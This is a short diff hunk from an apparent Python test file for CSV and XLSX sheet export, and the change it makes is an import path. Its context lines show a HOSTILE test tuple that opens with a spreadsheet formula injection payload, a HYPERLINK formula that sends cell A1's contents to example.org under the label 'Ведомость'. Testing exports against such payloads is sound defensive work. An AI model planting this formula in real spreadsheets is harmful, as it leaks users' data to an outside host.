@@ -8,7 +8,7 @@ from datetime import date
 import openpyxl
 import pytest
 
-from handlers.registers.sheet import Sheet, make_csv, make_xlsx
+from handlers.sheets import Sheet, make_csv, make_xlsx
 
 HOSTILE = (
     '=HYPERLINK("http://example.org?x="&A1,"Ведомость")',
